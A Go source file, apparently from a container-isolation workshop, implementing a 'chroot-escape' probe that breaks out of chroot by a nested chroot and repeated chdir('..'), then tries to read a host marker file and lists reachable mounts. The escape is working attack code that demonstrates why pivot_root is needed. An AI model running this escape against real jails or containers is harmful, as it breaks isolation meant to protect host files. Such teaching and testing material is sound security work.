package attack

import (
	"errors"
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/how-to-be-a-container/workshop/pkg/container/journal"
	"github.com/how-to-be-a-container/workshop/pkg/lang"
)

// ChrootEscape is the classic way out of chroot(2): whoever may call chroot may
// leave, for a process keeps only one root, and a working directory outside of
// it is held back by nothing.
var ChrootEscape = &Probe{
	Name:  "chroot-escape",
	Stops: "pivot-root",
	Tries: "leave the root directory by a second chroot",
	Run:   chrootEscape,
	Scene: rootScene,
	Says:  whatItLeft,
	Why:   mountTable,
}

// MarkerEnv names a file of the host, and MarkerFact what the probe read there.
const (
	MarkerEnv  = "WORKSHOP_MARKER"
	MarkerFact = "host's marker"
)

// The facts: the root directory before and after, by device and inode.
const (
	RootBefore = "/ before"
	RootAfter  = "/ after"
)

var errSameRoot = errors.New(lang.N("every call succeeded, and / is still the same directory: there is nothing above it"))

func chrootEscape(t *T) error {
	before, err := rootID()
	if err != nil {
		return err
	}
	t.Fact(RootBefore, before)
	if isHostRoot() {
		return reach(t)
	}
	if err := climb(t); err != nil {
		return err
	}
	after, err := rootID()
	if err != nil {
		return err
	}
	t.Fact(RootAfter, after)
	if after == before {
		return errSameRoot
	}
	return reach(t)
}

// isHostRoot tells whether / is the host's. In a shell of a container nobody says which
// directory that is: there the containers that run show it, for no other root has
// their journals, which root of a user namespace sees and may not read.
func isHostRoot() bool {
	if root := os.Getenv(targetEnv); root != "" {
		here, err := number("/")
		return err == nil && here == root
	}
	running, err := journal.Running()
	var unread *os.PathError
	there := errors.As(err, &unread) && unread.Path != journal.Dir && errors.Is(unread, os.ErrPermission)
	return there || len(running) > 0
}

// rootScene tells which directory is the host's root, and what is to be read there.
func rootScene() (*Scene, error) {
	scene, err := markerScene()
	if err != nil {
		return nil, err
	}
	scene.Target, err = number("/")
	return scene, err
}

// whatItLeft is for who left nothing, and for who left and is nobody outside.
func whatItLeft(r Result) string {
	after := r.Facts[RootAfter]
	switch {
	case r.Allowed && after == "":
		return lang.T("This is the host's root already: there is nothing to escape from.")
	case !r.Allowed && after != "" && after != r.Facts[RootBefore]:
		return lang.F("The attack left, and gained little: %s.", r.Reason)
	}
	return ""
}

// reach shows what the way out is worth. In a user namespace every call of the
// escape may succeed, and outside root is nobody: it reads what everybody may.
func reach(t *T) error {
	path := os.Getenv(MarkerEnv)
	if path == "" || readMarker(t) {
		return nil
	}
	read := func(path string) error {
		return t.Do(fmt.Sprintf("open(%q)", path), func() error {
			_, err := os.ReadFile(path)
			return unwrapped(err)
		})
	}
	_ = read("/proc/version") // for everybody
	if err := read(path); err != nil {
		return fmt.Errorf(lang.T("it may read there what everybody may: %w"), err)
	}
	return nil
}

// readMarker tells whether the host's marker can be read by its name.
func readMarker(t *T) bool {
	marker, err := os.ReadFile(os.Getenv(MarkerEnv))
	if err == nil {
		t.Fact(MarkerFact, strings.TrimSpace(string(marker)))
	}
	return err == nil
}

// mountTable shows what there is to escape to, where every call succeeded.
func mountTable(s View, r Result) string {
	if r.Errno != "" {
		return ""
	}
	var mounts []string
	for _, m := range s.Mounts {
		mounts = append(mounts, m.FSType+" on "+m.Mountpoint)
	}
	return lang.F("/proc/%d/mountinfo, all that the process can reach: %s.", s.PID, strings.Join(mounts, ", "))
}

// climb is the escape itself.
func climb(t *T) error {
	if err := t.Do(`chdir("/")`, func() error { return unix.Chdir("/") }); err != nil {
		return err
	}
	if err := down(t); err != nil {
		return err
	}
	// ".." is stopped only by the process's own root, and that is below us.
	if err := t.Do(lang.N(`chdir("..") until nothing is above`), chdirToTop); err != nil {
		return err
	}
	return t.Do(`chroot(".")`, func() error { return unix.Chroot(".") })
}

// down moves the root into a directory; the working directory stays, and so it is
// outside then.
func down(t *T) error {
	if dir := os.Getenv(dirEnv); dir != "" {
		return t.Do("chroot(DIRECTORY)", func() error { return unix.Chroot(dir) })
	}
	dir := freeName(".escape")
	if err := t.Do(fmt.Sprintf("mkdir(%q)", dir), func() error { return unix.Mkdir(dir, 0o700) }); err != nil {
		return err
	}
	defer unix.Rmdir(dir) // a root that has no name any more is still a root
	return t.Do(fmt.Sprintf("chroot(%q)", dir), func() error { return unix.Chroot(dir) })
}

// freeName is the name, or a longer one where the root filesystem has it.
func freeName(name string) string {
	if _, err := os.Lstat(name); errors.Is(err, os.ErrNotExist) {
		return name
	}
	return name + "-" + shortName()
}

func chdirToTop() error {
	for last := ""; ; {
		here, err := fileID(".")
		if err != nil || here == last {
			return err
		}
		if err := unix.Chdir(".."); err != nil {
			return err
		}
		last = here
	}
}

func rootID() (string, error) { return fileID("/") }

// fileID names a file as the kernel does.
func fileID(path string) (string, error) {
	st, err := stat(path)
	return deviceAndInode(st.Dev, st.Ino), err
}

// number is the same for a probe that is told of it.
func number(path string) (string, error) {
	st, err := stat(path)
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), err
}

func stat(path string) (st unix.Stat_t, err error) {
	if err := unix.Stat(path, &st); err != nil {
		return st, &os.PathError{Op: "stat", Path: path, Err: err}
	}
	return st, nil
}

func deviceAndInode(dev, ino uint64) string {
	return fmt.Sprintf("device %d:%d, inode %d", unix.Major(dev), unix.Minor(dev), ino)
}
